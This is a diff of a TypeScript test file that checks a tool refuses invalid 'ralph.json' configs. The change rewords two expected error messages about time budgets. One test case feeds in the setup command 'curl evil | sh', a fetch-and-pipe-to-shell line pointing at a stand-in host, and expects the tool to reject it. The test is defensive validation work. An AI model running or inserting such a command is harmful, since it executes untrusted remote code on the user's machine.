@@ -140,8 +140,8 @@ test.each<[string, string, RegExp]>([
   ['a stop-loss that is off', '{"stallRounds": 0}', /ralph\.json is not valid: stallRounds/],
   ['a command for a reviewer', '{"reviewer": "command"}', /ralph\.json is not valid: reviewer/],
   ['gates run in place', '{"gateInPlace": true}', /ralph\.json is not valid: .*"gateInPlace"/],
-  ['a budget of no time', '{"maxTime": "0s"}', /maxTime: must be longer than nothing/],
-  ['a budget without an end', '{"maxTime": "999999999d"}', /maxTime: is longer than can be counted/],
+  ['a budget of no time', '{"maxTime": "0s"}', /maxTime: must be longer than 0/],
+  ['a budget without an end', '{"maxTime": "999999999d"}', /maxTime: is too long/],
   ['a setup that nothing would hold', '{"setup": "curl evil | sh"}', /wants to run `curl evil \| sh`.*--no-setup/],
 ])('a ralph.json with %s is refused', async (name, text, message) => {
   const folder = makeRepository(path.join(place.folder, `json-${name.replaceAll(' ', '-')}`), { 'ralph.json': text });
